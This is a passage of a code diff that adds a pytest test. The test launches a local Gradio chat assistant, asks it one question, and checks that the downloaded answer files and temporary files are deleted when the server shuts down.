+        "cli.make_embeddings = lambda settings: HashingEmbeddings(); sys.exit(cli.main(['serve']))"
+    )
+    log = (tmp_path / "app.log").open("w")
+    server = subprocess.Popen([sys.executable, "-c", script], env=env, stdout=log, stderr=subprocess.STDOUT)
+    try:
+        _wait_until_up(f"http://127.0.0.1:{port}/", server)
+        client = Client(f"http://127.0.0.1:{port}/", verbose=False, download_files=False)
+        *_, download = client.predict("Which projects help families at home?", [], "All", "All", api_name="/chat")
+        assert download
+        left = _files_named_after_the_question(tmp_path)
+        assert len(left) >= 2, left  # ours, and Gradio's copy in its cache
+        server.send_signal(stop)
+        server.wait(timeout=30)
+    finally:
+        if server.poll() is None:
+            server.kill()
+    assert _files_named_after_the_question(tmp_path) == []
+    assert not list((tmp_path / "tmp").glob("promise-assistant-*"))
+    assert "Traceback" not in (tmp_path / "app.log").read_text(errors="replace")
+
+
+def _files_named_after_the_question(root: Path) -> list[Path]:
+    return [path for path in root.rglob("which-projects-help-families-at-home*") if path.is_file()]
+
+
+def _wait_until_up(url: str, server: subprocess.Popen[bytes]) -> None:
+    deadline = time.monotonic() + 120
+    while time.monotonic() < deadline and server.poll() is None:
+        try:
+            if httpx.get(url, timeout=2).status_code == 200:
+                return
+        except httpx.HTTPError:
+            pass
+        time.sleep(0.3)
+    pytest.fail("the app did not start")
